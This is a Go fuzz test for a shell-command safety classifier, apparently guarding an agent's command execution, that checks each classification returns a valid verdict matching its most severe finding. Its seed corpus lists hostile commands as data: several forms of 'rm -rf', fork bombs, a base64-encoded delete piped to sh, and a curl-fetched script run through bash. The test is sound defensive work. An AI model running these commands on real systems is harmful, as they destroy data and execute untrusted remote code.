package policy

import "testing"

func FuzzClassify(f *testing.F) {
	for _, s := range []string{
		"", "ls", "rm -rf /", ":(){ :|:& };:", "echo cm0gLXJmIC8= | base64 -d | sh",
		"bash -c \"$(curl -s https://x.io)\"", "a=rm; $a -rf ${x:-/}", "{rm,-rf,/}",
		"python3 -c 'import os; os.system(\"id\")'", "find / -exec rm -rf {} +",
		"cat <<EOF | sh\nrm -rf ~\nEOF", "x=(a b); echo ${x[@]:1} ${#x} ${x/a/b} ${x,,}",
		"f(){ f|f& }; f", "echo $'\\x72\\u00e9' `ls` $((1+2)) <(ls) >(cat)",
		"perl -e 'qx{ls}' ; ruby -e '%x(ls)'", "if [ ; then", "\x00\xff",
	} {
		f.Add(s)
	}
	c := New(Options{WorkDir: "/work", Home: "/home/u", ProtectedPaths: []string{"/etc/hermes"}})
	f.Fuzz(func(t *testing.T, cmd string) {
		got := c.Classify(cmd)
		if !got.Verdict.Valid() {
			t.Fatalf("Classify(%q).Verdict = %q; want a valid verdict", cmd, got.Verdict)
		}
		if got.Findings == nil {
			t.Fatalf("Classify(%q).Findings = nil; want a non-nil slice", cmd)
		}
		max := VerdictSafe
		for _, f := range got.Findings {
			if f.Rule == ruleTable[ruleInternalError].ID {
				t.Fatalf("Classify(%q) hit an internal error", cmd)
			}
			if f.Verdict.rank() > max.rank() {
				max = f.Verdict
			}
		}
		if got.Verdict != max {
			t.Fatalf("Classify(%q).Verdict = %s; want %s, the most severe finding", cmd, got.Verdict, max)
		}
	})
}
